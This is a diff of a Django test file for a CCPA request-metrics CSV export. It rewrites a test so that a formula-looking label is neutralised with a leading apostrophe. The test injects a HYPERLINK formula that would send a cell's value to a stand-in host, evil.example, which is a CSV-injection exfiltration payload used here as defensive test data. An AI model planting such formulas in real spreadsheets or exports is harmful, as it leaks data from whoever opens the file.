@@ -17,7 +17,6 @@ from django.utils import timezone
 
 from privacy.models import AuditEvent
 from privacy.tests.factories import UserFactory
-from requests_app.admin.ccpa_metrics import csv_cell
 from requests_app.models import RequestType, Status
 from requests_app.selectors import ccpa_metrics
 from requests_app.tests.factories import PrivacyRequestFactory
@@ -223,20 +222,22 @@ def test_the_csv_has_the_same_figures_and_is_audited(auditor_client):
     ).exists()
 
 
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
-        ("+1", "'+1"),
-        ("-2", "'-2"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("Requests to know", "Requests to know"),
-        (14.7, 14.7),
-        (None, None),
-    ],
-)
-def test_csv_cells_never_run_as_formulas(value, expected):
-    assert csv_cell(value) == expected
+def test_csv_cells_never_run_as_formulas(monkeypatch, auditor_client):
+    """A kind's label that starts like a formula (labels are data, and could be edited)
+    reaches the CSV as text: the report uses privacy.spreadsheets.neutralise_formula."""
+    from requests_app import selectors
+
+    label = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    monkeypatch.setitem(
+        selectors.METRIC_GROUPS, "know", (label, selectors.METRIC_GROUPS["know"][1])
+    )
+    known_data_set()
+    response = auditor_client.get(
+        reverse("admin:requests_app_privacyrequest_ccpa_metrics"),
+        {"year": 2025, "format": "csv"},
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert rows[1][2] == "'" + label
 
 
 def test_support_agents_may_read_the_report_but_anonymous_users_may_not(client):
